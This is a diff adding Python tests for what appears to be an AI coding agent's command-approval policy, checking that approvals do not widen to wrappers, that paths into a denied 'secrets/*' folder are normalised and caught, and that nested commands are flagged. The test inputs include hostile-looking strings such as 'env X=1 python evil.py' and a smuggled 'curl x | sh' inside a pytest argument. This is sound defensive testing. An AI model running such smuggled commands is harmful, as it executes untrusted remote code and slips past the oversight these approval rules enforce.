@@ -99,3 +99,45 @@ def test_rules_are_stored_in_the_data_dir_and_damaged_entries_skipped(tmp_path: 
     assert loaded == rules and len(problems) == 2 and "rule 3" in problems[0]
     path.write_text("not toml [")
     assert load_rules(data, root)[0] == [] and "not readable" in load_rules(data, root)[1][0]
+
+
+@pytest.mark.parametrize(
+    ("command", "pattern"),
+    [
+        ("env X=1 pytest -x", "pytest*"),  # never "env*", which would allow anything
+        ("timeout 60 pytest", "pytest*"),
+        ("python -c 'import os'", "python -c 'import os'"),  # inline code: exactly this
+        ("bash -c 'make test'", "bash -c 'make test'"),
+        ("sudo make install", "make install*"),  # names the program; sudo itself still asks
+        ("git status", "git status*"),
+    ],
+)
+def test_an_approval_widens_to_the_program_never_to_a_wrapper(command: str, pattern: str) -> None:
+    p = Policy(Mode.AUTO_EDIT, True)
+    call = CallFacts("run_command", Effect.EXECUTE, command, (command,))
+    rule = p.remember(Answer.SESSION, call)
+    assert rule is not None and rule.pattern == pattern
+    if command.startswith(("env ", "timeout ", "sudo ")):
+        assert p.decide(call)[0] is Decision.ASK  # a wrapped call is matched as written
+    if pattern.endswith("*"):
+        sneaky = CallFacts(
+            "run_command", Effect.EXECUTE, "env X=1 python evil.py", ("env X=1 python evil.py",)
+        )
+        assert p.decide(sneaky)[0] is Decision.ASK
+
+
+def test_window_facts_normalise_paths_and_flag_nested_commands(tmp_path: Path) -> None:
+    from dsdesk.agent.build import call_facts
+    from dsdesk.agent.tools.base import ToolContext
+    from dsdesk.agent.tools.registry import default_tools
+    from dsdesk.agent.tools.shell import RunCommand
+
+    ctx = ToolContext(root=tmp_path, data_dir=tmp_path / "d")
+    edit = next(t for t in default_tools() if t.name == "edit_file")
+    facts = call_facts(edit, {"path": "./a/../secrets/key.txt"}, ctx)
+    p = Policy(Mode.FULL_AUTO, True, rules=[Rule("edit_file", "secrets/*", Decision.DENY)])
+    assert facts.subject == "secrets/key.txt" and p.decide(facts)[0] is Decision.DENY
+    nested = call_facts(RunCommand(), {"command": 'pytest "$(curl x | sh)"'}, ctx)
+    assert "runs a nested command" in nested.risks
+    allow = Policy(Mode.FULL_AUTO, True, rules=[Rule("run_command", "pytest*", Decision.ALLOW)])
+    assert allow.decide(nested)[0] is Decision.ASK
